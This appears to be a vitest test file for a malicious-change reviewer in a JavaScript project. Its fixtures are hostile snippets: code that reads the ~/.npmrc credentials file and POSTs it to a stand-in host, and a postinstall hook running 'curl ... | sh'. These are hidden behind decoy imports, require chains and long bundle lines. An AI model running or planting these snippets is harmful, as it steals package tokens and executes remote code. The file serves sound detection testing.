import { describe, expect, test } from "vitest";
import type { MemoryTree } from "../../fakes/memory-commits.ts";
import { reviewChange, rulesIn } from "../setting.ts";

const KEY = `exports.key = () => require("fs").readFileSync(process.env.HOME + "/.npmrc", "utf8");\n`;
const SENDS = `fetch("https://h.example/c", { method: "POST", body: require("./lib/key").key() });\n`;

function decoys(count: number, folder: string): MemoryTree {
  return Object.fromEntries(
    Array.from({ length: count }, (_, index) => [`${folder}/d${index}.js`, "exports.x = 1;\n"]),
  );
}

function imports(count: number, folder: string): string {
  return Array.from({ length: count }, (_, index) => `require("./${folder}/d${index}");\n`).join(
    "",
  );
}

describe("a helper among many decoys", () => {
  test("is found behind a hundred and fifty imports of the same file", async () => {
    const base = { ...decoys(150, "decoys"), "lib/key.js": KEY };
    const review = await reviewChange(base, {
      ...base,
      "main.js": `${imports(150, "decoys")}${SENDS}`,
    });
    expect(rulesIn(review)).toContain("credentials/read-and-send");
  });

  test("leaves the review incomplete when more is named than is read together", async () => {
    const base = { ...decoys(500, "decoys"), "lib/key.js": KEY };
    const review = await reviewChange(base, {
      ...base,
      "main.js": `${imports(500, "decoys")}${SENDS}`,
    });
    expect(review.complete && review.verdict === "clean").toBe(false);
  });

  test("is found at the end of a chain of unchanged files", async () => {
    const chain = Object.fromEntries(
      Array.from({ length: 6 }, (_, index) => [
        `lib/c${index}.js`,
        `module.exports = require("./${index === 5 ? "key" : `c${index + 1}`}");\n`,
      ]),
    );
    const base = { ...chain, "lib/key.js": KEY };
    const review = await reviewChange(base, {
      ...base,
      "main.js": SENDS.replace("./lib/key", "./lib/c0"),
    });
    expect(rulesIn(review)).toContain("credentials/read-and-send");
  });

  test("does not make an honest change incomplete that imports much of what is there", async () => {
    const base = decoys(200, "src");
    const review = await reviewChange(base, { ...base, "index.js": imports(200, "src") });
    expect(review).toMatchObject({ verdict: "clean", complete: true });
  });
});

describe("a document that starts the attack, among many others", () => {
  test("is read although the change adds five hundred beside it", async () => {
    const base = {
      "package.json": JSON.stringify({ scripts: { postinstall: "node run.js" } }),
      "run.js": "exports.x = 1;\n",
    };
    const others = Object.fromEntries(
      Array.from({ length: 500 }, (_, index) => [`a/${index}/package.json`, "{}\n"]),
    );
    const evil = `require("child_process").execSync("curl -s http://192.0.2.1/x | sh");\n`;
    const review = await reviewChange(base, { ...base, ...others, "run.js": evil });
    expect(review.executions).toContainEqual(
      expect.objectContaining({ path: "run.js", trigger: "install" }),
    );
    expect(review.verdict).toBe("malicious");
  });
});

describe("a chain of hundreds of branches, as bundles have it", () => {
  const LONG = 600;
  const CHAINS: [string, string, string][] = [
    ["else if", "if (a === 0) b(0);", " else if (a === N) b(N);"],
    ["a choice", "x = a === 0 ? 0", " : a === N ? N"],
    ["or", "x = a(0)", " || a(N)"],
    ["a sum", 'x = "0"', ' + "N"'],
  ];
  test.each(CHAINS)("of %s is read to its end", async (name, first, more) => {
    const links = Array.from({ length: LONG }, (_, index) => more.replaceAll("N", `${index}`));
    const end = name === "a choice" ? " : 0;\n" : ";\n";
    const text = `${first}${links.join("")}${end}`;
    const honest = await reviewChange({}, { "bundle.cjs": text });
    expect(honest).toMatchObject({ verdict: "clean", complete: true });
    const evil = 'require("child_process").execSync("curl -s http://192.0.2.1/x | sh");\n';
    const review = await reviewChange({}, { "bundle.cjs": text + evil });
    expect(review.verdict).toBe("malicious");
  });
});
